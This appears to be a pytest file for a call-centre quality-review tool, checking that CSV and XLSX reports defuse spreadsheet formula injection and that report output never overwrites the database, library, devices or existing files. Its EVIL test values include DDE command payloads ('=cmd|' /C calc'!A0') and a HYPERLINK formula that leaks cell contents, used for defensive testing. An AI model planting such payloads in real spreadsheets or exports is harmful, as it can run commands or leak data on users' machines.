"""Issue 12 §1-§2: spreadsheets never carry a live formula from outsiders' text, and a report
never overwrites the project's database, its library, a device, the other output, or (without
--force) an existing file; leftovers of a killed export are removed by the next one."""

from __future__ import annotations

import csv
import hashlib
import io
import os
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from qcdesk.cli import main as cli
from qcdesk.domain.checklist_schema import parse_template_text
from qcdesk.reports import build
from qcdesk.reports.cells import csv_row
from qcdesk.reports.checklist_xlsx import write_checklist_xlsx
from qcdesk.reports.model import (
    AnswerRecord,
    CriterionMeta,
    Dataset,
    EvalRecord,
    OutcomeRecord,
    Period,
    Targets,
)
from qcdesk.reports.output import remove_leftovers
from qcdesk.reports.xlsx import write_xlsx

OCTOBER = Period(date(2026, 10, 1), date(2026, 10, 31))
LINK = '=HYPERLINK("http://x"&A1)'
DDE = "=cmd|' /C calc'!A0"
EVIL = (LINK, DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3", "\t=1+1", "\r=1+1")
REPO = Path(__file__).resolve().parents[1]


def _evil_dataset() -> Dataset:
    criteria = (
        CriterionMeta("greet", LINK, DDE, False),
        CriterionMeta("rude", "@SUM(A1)", "+раздел", True),
    )
    evals = tuple(
        EvalRecord(
            evaluation_id=10 + i,
            interaction_id=i,
            consultant_id=1 + i % 2,
            channel="call",
            started_at=datetime(2026, 10, 2 + i, 12),
            reviewer=EVIL[2] if i else "",
            score=80.0 + i,
            critical_failed=False,
            answers=(
                AnswerRecord("greet", "no", 0.0, EVIL[3 + i % 4]),
                AnswerRecord("rude", "yes", 1.0, "-не поздоровался"),
            ),
        )
        for i in range(4)
    )
    outcomes = tuple(
        OutcomeRecord(e.interaction_id, e.consultant_id, "call", e.started_at, "close", True)
        for e in evals
    )
    return Dataset(
        1, DDE, None, LINK, Targets(80, 25, 0, 0.3), {1: LINK, 2: DDE}, criteria,
        (DDE, "+раздел"), (("close", "=Итог"),), evals, outcomes,
    )  # fmt: skip


def _string_cells(path: Path) -> dict[str, list[tuple[object, str]]]:
    wb = load_workbook(path)
    out: dict[str, list[tuple[object, str]]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    out.setdefault(str(cell.value), []).append((cell.coordinate, cell.data_type))
    return out


@pytest.mark.parametrize("lang", ["ru", "en"])
def test_report_xlsx_writes_outsiders_text_as_text(tmp_path: Path, lang: str) -> None:
    ds = _evil_dataset()
    for report in (build.team_report(ds, OCTOBER), build.consultant_report(ds, 1, OCTOBER)):
        path = write_xlsx(report, tmp_path / f"{type(report).__name__}.xlsx", lang)
        cells = _string_cells(path)
        formulas = [(v, where) for v, places in cells.items() for where, t in places if t == "f"]
        assert formulas == []
        # Names, criterion titles, sections, reviewers and comments all arrive, as strings.
        for text in (LINK, DDE, "@SUM(A1)", "+раздел"):
            assert text in cells and {t for _, t in cells[text]} == {"s"}
    comments = _string_cells(tmp_path / "ConsultantReport.xlsx")
    for text in (EVIL[3], EVIL[5], "-не поздоровался"):
        assert text in comments and {t for _, t in comments[text]} == {"s"}
    team = _string_cells(tmp_path / "TeamReport.xlsx")
    assert {t for _, t in team[EVIL[2]]} == {"s"}  # the reviewer


def test_checklist_xlsx_writes_titles_as_text_and_keeps_its_own_sum(tmp_path: Path) -> None:
    text = (REPO / "checklists" / "sales-call-ru.yaml").read_text(encoding="utf-8")
    quoted = "'" + DDE.replace("'", "''") + "'"  # YAML single quotes double a quote
    evil = text.replace('title: "Продажи: телефонный звонок"', f"title: {quoted}", 1)
    evil = evil.replace("title: Поздоровался", f"title: '{LINK}'", 1)
    template = parse_template_text(evil)
    titles = [c.title for c in template.criteria()]
    assert LINK in titles and template.title == DDE
    cells = _string_cells(write_checklist_xlsx(template, tmp_path / "checklist.xlsx"))
    assert {t for _, t in cells[LINK]} == {"s"} and {t for _, t in cells[DDE]} == {"s"}
    formulas = [v for v, places in cells.items() for _, t in places if t == "f"]
    assert len(formulas) == 1 and formulas[0].startswith("=SUM(G")  # its own total


def test_csv_cells_are_defused_as_owasp_says() -> None:
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_row([*EVIL, "Анна", 3, "a-b", None]))
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert row[: len(EVIL)] == ["'" + t for t in EVIL]
    assert row[len(EVIL) :] == ["Анна", "3", "a-b", ""]


# ------------------------------------------------------------------ report --out / --xlsx


@pytest.fixture
def project(services):  # type: ignore[no-untyped-def]
    services.catalog.ensure_client("Тест Вывод")
    return services


def _report(project, *extra: str) -> int:  # type: ignore[no-untyped-def]
    args = ["report", "team", "--db", str(project.db_path), "--library", str(project.library_dir)]
    args += ["--client", "Тест Вывод", "--from", "2026-10-01", "--to", "2026-10-31"]
    return cli([*args, *extra])


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_report_refuses_the_database_and_its_side_files(project, capsys) -> None:  # type: ignore[no-untyped-def]
    db = project.db_path
    before = _digest(db)
    for target in (db, Path(f"{db}-wal"), Path(f"{db}-shm")):
        assert _report(project, "--out", str(target), "--force") == 2
        err = capsys.readouterr().err
        assert str(target) in err and "database" in err
    assert _report(project, "--out", str(db.parent / "ok.pdf"), "--xlsx", str(db)) == 2
    assert str(db) in capsys.readouterr().err
    assert not (db.parent / "ok.pdf").exists()  # nothing written before the refusal
    assert _digest(db) == before


def test_report_refuses_library_devices_folders_and_a_path_twice(project, capsys, tmp_path) -> None:  # type: ignore[no-untyped-def]
    inside = project.library_dir / "ab" / "report.pdf"
    assert _report(project, "--out", str(inside), "--force") == 2
    err = capsys.readouterr().err
    assert str(inside) in err and "library" in err
    assert not inside.exists()
    assert _report(project, "--out", "/dev/full", "--force") == 2
    err = capsys.readouterr().err
    assert "/dev/full" in err and "not a regular file" in err
    folder = tmp_path / "a folder.pdf"
    folder.mkdir()
    assert _report(project, "--out", str(folder), "--force") == 2
    assert str(folder) in capsys.readouterr().err
    same = tmp_path / "same.pdf"
    assert _report(project, "--out", str(same), "--xlsx", str(tmp_path / "." / "same.pdf")) == 2
    assert str(same) in capsys.readouterr().err and not same.exists()


def test_report_replaces_an_existing_file_only_with_force(project, capsys, tmp_path) -> None:  # type: ignore[no-untyped-def]
    out, xlsx = tmp_path / "team.pdf", tmp_path / "team.xlsx"
    out.write_text("my notes", encoding="utf-8")
    assert _report(project, "--out", str(out), "--xlsx", str(xlsx)) == 2
    err = capsys.readouterr().err
    assert str(out) in err and "--force" in err
    assert out.read_text(encoding="utf-8") == "my notes" and not xlsx.exists()
    assert _report(project, "--out", str(out), "--xlsx", str(xlsx), "--force") == 0
    assert out.read_bytes().startswith(b"%PDF") and xlsx.exists()


def test_leftovers_of_a_killed_export_are_removed_by_the_next_one(project, tmp_path) -> None:  # type: ignore[no-untyped-def]
    dead = tmp_path / "team.pdf.999999999.part"  # no such process
    dead.write_bytes(b"%PDF-1.4 half")
    other_dead = tmp_path / "anna.xlsx.999999998.part"
    other_dead.write_bytes(b"PK half")
    live = tmp_path / f"other.pdf.{os.getpid()}.part"  # an export running right now
    live.write_bytes(b"%PDF-1.4 writing")
    stranger = tmp_path / "film.mkv.part"  # a browser's download: not ours
    stranger.write_bytes(b"x")
    assert _report(project, "--out", str(tmp_path / "next.pdf")) == 0
    assert not dead.exists() and not other_dead.exists()
    assert live.exists() and stranger.exists()
    assert sorted(p.name for p in tmp_path.glob("*.part")) == sorted([live.name, stranger.name])
    assert remove_leftovers(tmp_path) == []
